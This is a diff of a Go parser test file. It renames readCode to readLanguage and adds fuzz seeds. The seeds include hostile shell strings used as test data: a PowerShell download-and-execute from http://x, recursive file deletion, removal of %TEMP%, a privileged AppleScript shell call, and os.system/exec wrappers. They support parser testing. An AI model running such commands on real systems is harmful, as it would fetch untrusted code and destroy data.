@@ -18,7 +18,7 @@ func FuzzReadCode(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, text string) {
 		for _, language := range rule.Languages {
-			langtest.Check(t, readCode(language, text, rules.Function), text)
+			langtest.Check(t, readLanguage(language, text, rules.Function), text)
 		}
 	})
 }
@@ -36,7 +36,7 @@ var seeds = []string{
 	`iex "$(iwr http://x)"; gci | ri -rec; [IO.File]::Delete('x'); @'` + "\nq\n'@",
 	`for %%i in (*) do del /s "%%i" & rd /s/q %TEMP%^&`,
 	`do shell script "ls " & quoted form of x with administrator privileges`,
-	"${${${${${", `"#{"#{"#{"#{"`, "((((((((((", "{[({[({[(", "f'{f\"{x}\"}'", "a=b=c=d=", "x if y else z if w else",
+	"def h(b):\n    os.system(b)\nprint(f\"{h(b'x')} {h(f'{h(1)}')}\")\n", "const h = c => exec(c); `${h('x')} ${`${h(1)}`}`", "${${${${${", `"#{"#{"#{"#{"`, "((((((((((", "{[({[({[(", "f'{f\"{x}\"}'", "a=b=c=d=", "x if y else z if w else",
 }
 
 // TestReadEndsSoon repeats what could make a reader look back or ahead over and
@@ -52,7 +52,7 @@ func TestReadEndsSoon(t *testing.T) {
 		for _, p := range parts {
 			start := time.Now()
 			text := strings.Repeat(p, (8<<10)/len(p))
-			langtest.Check(t, readCode(language, text, rules.Function), text)
+			langtest.Check(t, readLanguage(language, text, rules.Function), text)
 			if d := time.Since(start); d > 2*time.Second {
 				t.Errorf("%s: %q repeated takes %v", language, p, d)
 			}
@@ -73,7 +73,7 @@ func TestCodeSpans(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.lang, func(t *testing.T) {
-			steps := readCode(tt.lang, tt.text, rules.Function)
+			steps := readLanguage(tt.lang, tt.text, rules.Function)
 			if len(steps) != 1 {
 				t.Fatalf("%d steps in %q", len(steps), tt.text)
 			}
